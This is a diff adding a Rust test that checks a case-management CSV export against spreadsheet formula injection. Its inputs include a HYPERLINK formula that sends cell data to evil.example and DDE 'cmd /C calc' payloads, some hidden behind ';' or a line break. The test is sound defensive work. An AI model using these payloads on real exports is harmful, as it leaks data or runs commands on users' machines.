@@ -180,3 +180,83 @@ async fn cli_import_of_an_xlsx_bomb_fails_cleanly() {
     }
     db.cleanup().await;
 }
+
+// ---------- item 13c: the formula guard of every CSV writer ----------
+
+/// Cells as a spreadsheet in an az/ru locale sees them: the line cut at `;` (it ignores the
+/// file's quoting of comma-separated fields) and at line breaks.
+fn locale_cells(csv: &str) -> Vec<String> {
+    csv.split([';', '\n', '\r']).map(str::to_string).collect()
+}
+
+fn runs_as_formula(cell: &str) -> bool {
+    let c = cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t');
+    let c = c.strip_prefix('"').unwrap_or(c);
+    match c.chars().next() {
+        Some('=' | '@' | '\t' | '\u{FF1D}' | '\u{FF20}') => true,
+        Some('+' | '-' | '\u{FF0B}' | '\u{FF0D}') => !c
+            .chars()
+            .all(|c| c.is_ascii_digit() || c.is_whitespace() || " +-()./\",".contains(c)),
+        _ => false,
+    }
+}
+
+#[tokio::test]
+async fn csv_export_guards_every_cell_a_spreadsheet_would_run() {
+    let db = test_db().await;
+    let (_, user) = org_and_user(&db, "org-csv", "caseworker").await;
+    let actor = user.actor();
+    let comments = [
+        "x;=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
+        "  =1+1",
+        "\u{FF1D}cmd|' /C calc'!A0",
+        "first line\n@SUM(A1)",
+        "ok; -2+3+cmd|' /C calc'!A0",
+    ];
+    for comment in comments {
+        let input: dayaq_domain::case::CaseInput = serde_json::from_value(serde_json::json!({
+            "prs_FirstName": "Leyla",
+            "prs_SecondName": "Aliyeva",
+            "prs_Gender": "Feminine",
+            "prs_MobilePhone": "+994 50 123 45 67",
+            "cco_CaseComment": comment,
+        }))
+        .unwrap();
+        let valid = input.validate(crate::testkit::now().date()).unwrap();
+        db.store.create_case(&ctx(&actor), &valid).await.unwrap();
+    }
+    let mut sink = dayaq_storage::htcds::CsvSink::new(Vec::new()).unwrap();
+    let n = db
+        .store
+        .export_cases(&ctx(&actor), &mut sink)
+        .await
+        .unwrap();
+    assert_eq!(n, comments.len());
+    let csv = String::from_utf8(sink.finish().unwrap()).unwrap();
+    for cell in locale_cells(&csv) {
+        assert!(!runs_as_formula(&cell), "a spreadsheet would run {cell:?}");
+    }
+    // Every field, read back as CSV, is safe at its start too.
+    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    for rec in r.records() {
+        for f in rec.unwrap().iter() {
+            assert!(!dayaq_storage::csv_guard::would_evaluate(f), "{f:?}");
+        }
+    }
+    // The phone stays readable.
+    assert!(csv.contains(",+994 50 123 45 67,"), "{csv}");
+    // And the export imports back exactly.
+    let parsed =
+        dayaq_storage::htcds::parse(csv.as_bytes(), Format::Csv, crate::testkit::now().date())
+            .unwrap();
+    let mut back: Vec<String> = parsed
+        .cases
+        .iter()
+        .map(|c| c.identity.notes.clone().unwrap())
+        .collect();
+    back.sort();
+    let mut want: Vec<String> = comments.iter().map(|s| s.to_string()).collect();
+    want.sort();
+    assert_eq!(back, want);
+    db.cleanup().await;
+}
